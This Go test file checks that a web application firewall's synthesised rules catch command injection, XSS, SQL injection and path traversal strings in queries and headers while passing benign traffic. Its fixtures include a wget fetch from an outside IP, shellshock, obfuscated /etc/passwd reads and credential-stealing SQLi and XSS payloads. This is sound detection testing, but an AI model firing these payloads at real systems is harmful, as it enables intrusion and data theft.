package wafsynth

import (
	"net/url"
	"testing"

	"github.com/cfplane/cfplane/pkg/rules"
	"github.com/cfplane/cfplane/pkg/wafreplay"
)

// Regression: "done" (like fi, esac, then) is a shell keyword that closes
// a block, not a command; after a ; it is ordinary punctuated text
// ("…shipped"; done) and matched the RCE rule.
func TestShellKeywordDoneIsNotACommand(t *testing.T) {
	for _, plan := range []rules.Plan{rules.PlanBusiness, rules.PlanEnterprise} {
		rce := compileFor(t, ClassRCE, plan, Fields{})
		for _, v := range []string{`status "shipped"; done`, "checked; done", "step 3 | done", `"; done"`} {
			rq, _ := wafreplay.PrepareFor(wafreplay.Request{Path: "/s", Query: "q=" + url.QueryEscape(v)}, plan)
			if rce.Eval(rq, nil) {
				t.Errorf("rce/%s matches benign %q", plan, v)
			}
		}
		// A loop is still shell: for … ; do … ; done.
		rq, _ := wafreplay.PrepareFor(wafreplay.Request{Path: "/s", Query: "q=" + url.QueryEscape("x; for i in 1 2; do id; done")}, plan)
		if !rce.Eval(rq, nil) {
			t.Errorf("rce/%s misses a shell loop", plan)
		}
	}
}

func headerReq(plan rules.Plan, h map[string]string) *rules.Request {
	rq, err := wafreplay.PrepareFor(wafreplay.Request{Path: "/", Host: "www.example.com", Headers: h}, plan)
	if err != nil {
		panic(err)
	}
	return rq
}

// Attacks in headers the rule does not name are seen for the strongest
// constructs, plain or URL-encoded; the same text as a cookie NAME is not
// (cookie names are never inspected), and Free/Pro rules read no headers.
func TestAttacksInAnyHeader(t *testing.T) {
	cases := map[string][]string{
		ClassXSS: {"<svg/onload=alert(1)>", url.QueryEscape("<iframe src=x>"), `x" onmouseover="alert(2)`, "javascript:void(document.cookie)"},
		ClassRCE: {"() { :; }; echo vulnerable", "$(id)", "x | /bin/sh", "1; wget -q http://203.0.113.9/a.sh", "a && cat /etc/hostname",
			";id", "x|whoami", "a && uname -a", ";cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}", ";/???/c?t x", ";c''at x", ";w'h'o'am'i", ";cat</etc/passwd", ";sleep 5"},
		ClassSQLi: {"1' UNION SELECT password FROM users--", "x' OR '1'='1", "1 AND SLEEP(5)", "'; WAITFOR DELAY '0:0:5'--", url.QueryEscape("1' or 1=1-- -")},
		ClassLFI:  {"../../../../etc/passwd", `..\..\windows\win.ini`, "php://filter/resource=index.php", url.QueryEscape("/proc/self/environ")},
	}
	for _, plan := range []rules.Plan{rules.PlanBusiness, rules.PlanEnterprise} {
		for class, vs := range cases {
			p := compileFor(t, class, plan, Fields{})
			for _, v := range vs {
				if !p.Eval(headerReq(plan, map[string]string{"X-Device-Label": v}), nil) {
					t.Errorf("%s/%s misses %q in a custom header", class, plan, v)
				}
			}
		}
		for _, name := range []string{"<script>alert(1)</script>", "javascript:alert(1)", "$(id)", "x | /bin/sh", "x'--", "a' OR '1'='1", "../../etc/passwd"} {
			for _, class := range []string{ClassXSS, ClassRCE, ClassSQLi, ClassLFI} {
				if compileFor(t, class, plan, Fields{}).Eval(headerReq(plan, map[string]string{"Cookie": name + "=1; session=abc"}), nil) {
					t.Errorf("%s/%s reads the cookie name %q", class, plan, name)
				}
			}
		}
	}
	for _, class := range []string{ClassXSS, ClassRCE} {
		p := compileFor(t, class, rules.PlanPro, Fields{})
		if p.Eval(headerReq(rules.PlanPro, map[string]string{"X-Device-Label": "<script>alert(1)</script>"}), nil) {
			t.Errorf("%s/pro reads headers", class)
		}
	}
	// Ordinary header values of APIs and proxies stay clean.
	benign := map[string]string{
		"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.onabcd_Xx/onload",
		"X-Request-Id":  "6f1c9a2e-3b7d-4d0e-9a51-0c2f8e7b1d44", "If-None-Match": `W/"5e-1a2b3c"`,
		"X-Forwarded-Proto": "https", "Link": `<https://www.example.com/style.css>; rel=preload; as=style`,
		"Content-Disposition": `attachment; filename="report; final.pdf"`, "X-Note": "ping me; cat photos are great",
		"X-Comment": `She said "it's fine" -- and left; time to go`, "Baggage": "userId=alice,isProduction=false;sampled=1",
		"Forwarded": "for=192.0.2.60;proto=https;by=203.0.113.43", "X-Path": "/static/app/main.js", "Prefer": "return=minimal; handling=lenient",
	}
	for _, plan := range []rules.Plan{rules.PlanBusiness, rules.PlanEnterprise} {
		for _, class := range []string{ClassXSS, ClassRCE, ClassSQLi, ClassLFI} {
			if compileFor(t, class, plan, Fields{}).Eval(headerReq(plan, benign), nil) {
				t.Errorf("%s/%s matches ordinary headers", class, plan)
			}
		}
	}
}

// Restricted upload names in x-filename and a user agent that is a
// command line are RCE; ordinary file names and client user agents are not.
func TestUploadNameAndCommandUserAgent(t *testing.T) {
	for _, plan := range []rules.Plan{rules.PlanBusiness, rules.PlanEnterprise} {
		rce := compileFor(t, ClassRCE, plan, Fields{})
		for _, h := range []map[string]string{
			{"X-Filename": ".htaccess"}, {"X-File-Name": "uploads/wp-config.php.bak"}, {"X-Filename": ".bash_history"}, {"X-Filename": "zoneinfo"},
			{"User-Agent": "knife node list"}, {"User-Agent": "python3 exploit.py --target x"},
		} {
			if !rce.Eval(headerReq(plan, h), nil) {
				t.Errorf("rce/%s misses %v", plan, h)
			}
		}
		for _, h := range []map[string]string{
			{"X-Filename": "holiday-photo.jpg"}, {"X-Filename": "acpi_tables_notes.txt"}, {"X-Filename": "Q3 report.pdf"}, {"X-Filename": "my_settings_backup.zip"},
			{"User-Agent": "curl/8.5.0"}, {"User-Agent": "node"}, {"User-Agent": "Go-http-client/2.0"}, {"User-Agent": "okhttp/4.12.0"},
			{"User-Agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"},
			{"User-Agent": "Amazon CloudFront"}, {"User-Agent": "Microsoft Office Word 2014"},
		} {
			if rce.Eval(headerReq(plan, h), nil) {
				t.Errorf("rce/%s matches benign %v", plan, h)
			}
		}
	}
	// Regression: "+" decoded to a space hid alias's option (alias +m a=b).
	rq, _ := wafreplay.PrepareFor(wafreplay.Request{Path: "/s", Query: "q=" + url.QueryEscape("alias +x k=v")}, rules.PlanBusiness)
	if !compileFor(t, ClassRCE, rules.PlanBusiness, Fields{}).Eval(rq, nil) {
		t.Error("rce misses alias +x k=v")
	}
}
